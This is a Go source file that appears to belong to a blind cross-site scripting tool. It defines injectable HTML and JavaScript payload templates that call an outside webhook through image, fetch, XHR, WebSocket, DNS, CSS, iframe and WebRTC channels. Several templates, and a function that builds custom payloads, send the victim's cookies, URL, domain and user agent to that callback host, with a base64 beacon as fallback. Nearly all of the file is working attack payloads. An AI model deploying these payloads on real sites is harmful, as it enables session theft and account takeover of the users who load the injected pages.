package payloads

import (
	"fmt"
	"strings"
)

// blindTemplates call back to the webhook with the payload's unique id
var blindTemplates = []string{
	// Image callbacks
	`<img src="{{WEBHOOK_URL}}/img/{{UNIQUE_ID}}">`,
	`<script>new Image().src="{{WEBHOOK_URL}}/js/{{UNIQUE_ID}}";</script>`,

	// Fetch / XHR
	`<script>fetch("{{WEBHOOK_URL}}/fetch/{{UNIQUE_ID}}");</script>`,
	`<script>var xhr=new XMLHttpRequest();xhr.open("GET","{{WEBHOOK_URL}}/xhr/{{UNIQUE_ID}}");xhr.send();</script>`,

	// WebSocket
	`<script>try{var ws=new WebSocket("ws://{{WEBHOOK_DOMAIN}}/ws/{{UNIQUE_ID}}");}catch(e){}</script>`,

	// DNS-style host label
	`<script>new Image().src="http://{{UNIQUE_ID}}.{{WEBHOOK_DOMAIN}}/dns";</script>`,

	// Form submission
	`<form action="{{WEBHOOK_URL}}/form/{{UNIQUE_ID}}" method="GET"><input name="data" value="blind_xss"></form><script>document.forms[0].submit();</script>`,

	// CSS
	`<style>@import "{{WEBHOOK_URL}}/css/{{UNIQUE_ID}}";</style>`,
	`<link rel="stylesheet" href="{{WEBHOOK_URL}}/css/{{UNIQUE_ID}}">`,

	// Embedded documents
	`<iframe src="{{WEBHOOK_URL}}/iframe/{{UNIQUE_ID}}"></iframe>`,
	`<object data="{{WEBHOOK_URL}}/object/{{UNIQUE_ID}}"></object>`,
	`<embed src="{{WEBHOOK_URL}}/embed/{{UNIQUE_ID}}">`,

	// Event handlers
	`<div onmouseover="new Image().src='{{WEBHOOK_URL}}/event/{{UNIQUE_ID}}'"></div>`,
	`<span onclick="fetch('{{WEBHOOK_URL}}/click/{{UNIQUE_ID}}')"></span>`,

	// Data exfiltration
	`<script>
    var data = {
        url: window.location.href,
        domain: document.domain,
        cookies: document.cookie,
        timestamp: new Date().getTime(),
        useragent: navigator.userAgent,
        referrer: document.referrer
    };
    fetch("{{WEBHOOK_URL}}/data/{{UNIQUE_ID}}", {
        method: "POST",
        headers: {"Content-Type": "application/json"},
        body: JSON.stringify(data)
    });
</script>`,

	// Storage
	`<script>localStorage.setItem("xss_{{UNIQUE_ID}}", "{{WEBHOOK_URL}}");new Image().src="{{WEBHOOK_URL}}/storage/{{UNIQUE_ID}}";</script>`,

	// WebRTC
	`<script>
    try {
        var pc = new RTCPeerConnection();
        pc.createDataChannel("");
        pc.createOffer().then(offer => {
            fetch("{{WEBHOOK_URL}}/webrtc/{{UNIQUE_ID}}", {
                method: "POST",
                body: JSON.stringify(offer)
            });
        });
    } catch(e) {}
</script>`,
}

// BlindTemplates returns a copy of the out-of-band callback templates.
func BlindTemplates() []string {
	out := make([]string, len(blindTemplates))
	copy(out, blindTemplates)
	return out
}

// FillBlind substitutes the webhook address, its host and the unique id.
func FillBlind(template, webhookURL, webhookDomain, uniqueID string) string {
	r := strings.NewReplacer(
		WebhookURLPlaceholder, strings.TrimRight(webhookURL, "/"),
		WebhookDomainPlaceholder, webhookDomain,
		UniqueIDPlaceholder, uniqueID,
	)
	return r.Replace(template)
}

// DefaultExfilFields are collected when CustomBlindPayload gets no fields
var DefaultExfilFields = []string{
	"document.domain",
	"document.cookie",
	"window.location.href",
	"navigator.userAgent",
}

// CustomBlindPayload builds a script that posts the given page fields as
// JSON to callbackURL, falling back to an image beacon when fetch fails.
func CustomBlindPayload(callbackURL string, fields []string) string {
	if len(fields) == 0 {
		fields = DefaultExfilFields
	}

	entries := make([]string, 0, len(fields))
	for _, field := range fields {
		key := field[strings.LastIndex(field, ".")+1:]
		entries = append(entries, fmt.Sprintf("%q: %s", key, field))
	}

	return fmt.Sprintf(`<script>
    var data = {%s};
    fetch(%q, {
        method: "POST",
        headers: {"Content-Type": "application/json"},
        body: JSON.stringify(data)
    }).catch(function(){
        new Image().src = %q + "?" + btoa(JSON.stringify(data));
    });
</script>`, strings.Join(entries, ","), callbackURL, callbackURL)
}
